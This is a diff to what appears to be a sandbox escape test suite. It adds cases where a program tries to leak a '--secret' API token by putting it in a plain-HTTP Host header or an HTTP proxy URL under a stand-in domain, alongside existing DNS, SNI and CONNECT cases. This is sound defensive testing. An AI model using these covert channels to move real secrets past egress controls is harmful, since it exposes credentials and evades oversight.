@@ -3,8 +3,8 @@
 The program holds an API token meant for one host, api.example (with porta:
 `--secret TOKEN@api.example`), and tries to get it somewhere else: another
 allowed host over HTTPS that the sandbox terminates (87), a name (a DNS
-question, a CONNECT or SOCKS target, a TLS SNI: 88), another allowed host
-over plain HTTP (89).
+question, a CONNECT or SOCKS target, a TLS SNI, a Host header or a proxy
+request's URL: 88), another allowed host over plain HTTP (89).
 
 What counts.  The escape is the token arriving at a server it is not meant
 for: the real value, or the value the program holds, found (case-blind,
@@ -137,11 +137,12 @@ def run(step, t):
             or np["connect"](step.get("addr", step["host"]), port)
         return {"status": https_get(s, fill(step.get("sni", step["host"]), t), step, t)}
     if op == "http":
+        step = dict(step, host=fill(step["host"], t))
         if step.get("via") == "proxy" and announced("HTTP_PROXY"):
             s = np["connect"](*np["proxy_addr"]("HTTP_PROXY"))
             s.sendall(head(step, t, absolute=True, auth=np["proxy_auth"]("HTTP_PROXY")))
         else:
-            s = np["connect"](step["host"], port)
+            s = np["connect"](step.get("addr", step["host"]), port)
             s.sendall(head(step, t))
         return {"status": np["recv_all"](s).decode("latin-1").split("\r\n", 1)[0]}
     if op in ("connect", "socks"):
@@ -187,6 +188,7 @@ def setup(lab):
         S["secret other"] = lab.server_tls(OTHER, 443, names=["other.example"], label="other.example")
         S["secret wild"] = lab.server_tls(WILD, 443, names=["*.wild.example", "wild.example"],
                                           label="*.wild.example")
+        S["secret wild http"] = lab.server_http(WILD, 80, label="*.wild.example:80")
         S["secret plain"] = lab.server_http(PLAIN, 80, label="plain.example")
         lab.dns(RECORDS, ttl=30)
 
@@ -317,10 +319,10 @@ def row87(ctx):
     return run_all(ctx, specs, ["secret other"])
 
 
-@row(88, "a --secret's token in a name: DNS question, CONNECT and SOCKS targets, TLS SNI",
-     f"--secret {SECRET} --allow-net *.wild.example:443")
+@row(88, "a --secret's token in a name: DNS question, CONNECT and SOCKS targets, TLS SNI, Host",
+     f"--secret {SECRET} --allow-net *.wild.example:443 --allow-net *.wild.example:80")
 def row88(ctx):
-    pol = Policy(secrets=[SECRET], allow_net=["*.wild.example:443"])
+    pol = Policy(secrets=[SECRET], allow_net=["*.wild.example:443", "*.wild.example:80"])
     name = "{T}.wild.example"
     specs = [("DNS question <token>.wild.example (UDP, to the resolver)",
               [{"op": "dns", "name": name}]),
@@ -330,8 +332,13 @@ def row88(ctx):
              # transparent only: a ClientHello naming another host than
              # the CONNECT is refused whatever it names (row 31)
              ("TLS to x.wild.example's address with SNI <token>.wild.example",
-              [{"op": "https", "host": "x.wild.example", "sni": name}])]
-    return run_all(ctx, [(n, pol, steps) for n, steps in specs], ["dns", "secret wild"])
+              [{"op": "https", "host": "x.wild.example", "sni": name}]),
+             ("plain HTTP to x.wild.example's address with Host <token>.wild.example",
+              [{"op": "http", "addr": "x.wild.example", "host": name, "port": 80}]),
+             ("HTTP proxy: GET http://<token>.wild.example/",
+              [{"op": "http", "host": name, "port": 80, "via": "proxy"}])]
+    return run_all(ctx, [(n, pol, steps) for n, steps in specs],
+                   ["dns", "secret wild", "secret wild http"])
 
 
 @row(89, "a --secret's token sent to another allowed host over plain HTTP",
